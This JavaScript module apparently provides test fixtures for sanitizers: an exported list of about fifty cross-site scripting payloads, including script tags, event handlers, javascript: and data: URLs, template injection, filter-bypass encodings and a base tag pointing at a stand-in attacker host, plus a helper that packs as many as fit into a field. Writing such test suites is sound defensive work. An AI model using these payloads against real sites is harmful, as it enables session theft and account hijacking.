// Texts that run as a script wherever somebody takes text for markup, an address or a template.
// Each would set `__xss`, open a dialog or fetch /xss.js.
const RUN = "top.__xss=1";

export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<script src=/xss.js></script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror=alert(1)>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x`,
  `<input autofocus onfocus=${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="//evil.invalid/">`,
  `<link rel=stylesheet href=/xss.js>`,
  `<a href="javascript:${RUN}">click</a>`,
  `javascript:${RUN}`,
  `JaVaScRiPt&colon;${RUN}`,
  `java\tscript:${RUN}`,
  `https://x.example/" onmouseover="${RUN}`,
  `https://x.example/'onclick='${RUN}'`,
  `[click](javascript:${RUN})`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==`,
  `{{constructor.constructor('${RUN}')()}}`,
  "${top.__xss=1}",
  "`${top.__xss=1}`",
  "<%= top.__xss=1 %>",
  `#{${RUN}}`,
  `\u202e<script>${RUN}</script>\u202c`,
  `\u2028${RUN}\u2029`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<ſcript>${RUN}</ſcript>`,
  `"-${RUN}-"`,
  `\\";${RUN}//`,
];

/** As many of them as a short field holds. */
export function within(chars) {
  const chosen = [];
  for (const payload of PAYLOADS) {
    if ([...chosen, payload].join(" ").length <= chars) chosen.push(payload);
  }
  return chosen.join(" ");
}
